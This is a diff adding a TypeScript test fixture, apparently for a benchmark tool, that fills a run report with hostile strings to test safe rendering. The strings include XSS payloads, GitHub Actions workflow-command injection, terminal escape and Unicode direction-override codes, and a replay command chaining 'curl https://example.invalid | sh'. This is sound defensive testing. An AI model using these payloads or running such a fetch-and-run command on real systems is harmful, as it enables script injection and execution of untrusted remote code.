@@ -1,0 +1,74 @@
+import type { Finding } from '../../src/model/finding.ts';
+import type { Run } from '../../src/model/run.ts';
+import { healthyRun, metric, self } from './healthy-run.ts';
+import { type Documents, limitsOf, verdictOf } from './judged.ts';
+
+/** What a service or a branch may be called by somebody who means harm. */
+export const hostileTexts: readonly string[] = [
+  '`@octocat` and ``` fences ``` @octocat',
+  'a|b\\|c | @team/devs',
+  'fixes #123 GH-77 https://example.invalid/?token=abc www.example.invalid',
+  '</code></details></table><script>alert(1)</script><img src=x onerror=alert(1)>',
+  'end --> of <!-- comment',
+  'right\u202Eto\u2066left\u200B\u0007\u001b[31m\u009b1m\r\n::add-path::/tmp/evil',
+  '::add-path::/tmp/evil',
+  'x ##[error]y ###[x] ##[',
+  '\ud800 lone \udfff',
+  '**bold** _soft_ ~~no~~ [link](javascript:alert(1)) ![i](x) $x$ :tada: {{x}} ${{ x }}',
+  '### heading\n- list\n> quote\n1. one\n```\n~~~\n<details>',
+];
+
+/** Every foreign text of a run and a verdict means harm. */
+export function hostile(): Documents {
+  const all = hostileTexts.join(' ');
+  const long = `${'x'.repeat(1_000)}@octocat ##[error] \`\`\`\`\`\` `.repeat(100);
+  const [first = '', second = '', third = ''] = hostileTexts;
+  const broken: Finding = {
+    kind: 'broken',
+    id: `property.${first}`,
+    sentence: all,
+    measured: 3,
+    limit: 1,
+    unit: `ms|</td>\`@octocat`,
+    evidence: [...hostileTexts, long],
+    replay: "npx plimsoll replay 'u1' ; curl https://example.invalid | sh",
+  };
+  const run: Run = {
+    ...healthyRun,
+    version: second,
+    suite: `${third} --> <!-- plimsoll:other --`,
+    createdAt: first,
+    source: { repository: first, commit: second, ref: hostileTexts.join('/') },
+    runner: { ...healthyRun.runner, cpuModel: all, os: first, arch: second, node: third, image: all },
+    configHash: first,
+    phases: [...healthyRun.phases, { name: 'drain', durationMs: 1, summary: all }],
+    metrics: [
+      ...healthyRun.metrics,
+      ...hostileTexts.map((text) => metric(`p95(${text})`, 'ms', 3)),
+      ...hostileTexts.map((text) => metric(text, text, 3)),
+    ],
+    findings: [broken],
+    searches: [{ property: first, scenarios: 3, seed: 1, path: second, spread: [...hostileTexts] }],
+    serviceOutput: [...hostileTexts, long],
+    self: { ...self, runner: { kind: 'ok', sentence: all } },
+  };
+  const inconclusiveFinding: Finding = {
+    kind: 'inconclusive',
+    id: second,
+    sentence: all,
+    measured: null,
+    limit: null,
+    unit: '',
+    evidence: hostileTexts,
+  };
+  return {
+    run,
+    verdict: verdictOf(run, {
+      kind: 'fail',
+      blocks: true,
+      reason: all,
+      findings: [broken, inconclusiveFinding, ...limitsOf(run)],
+      baseline: { runs: 1, sentence: all },
+    }),
+  };
+}
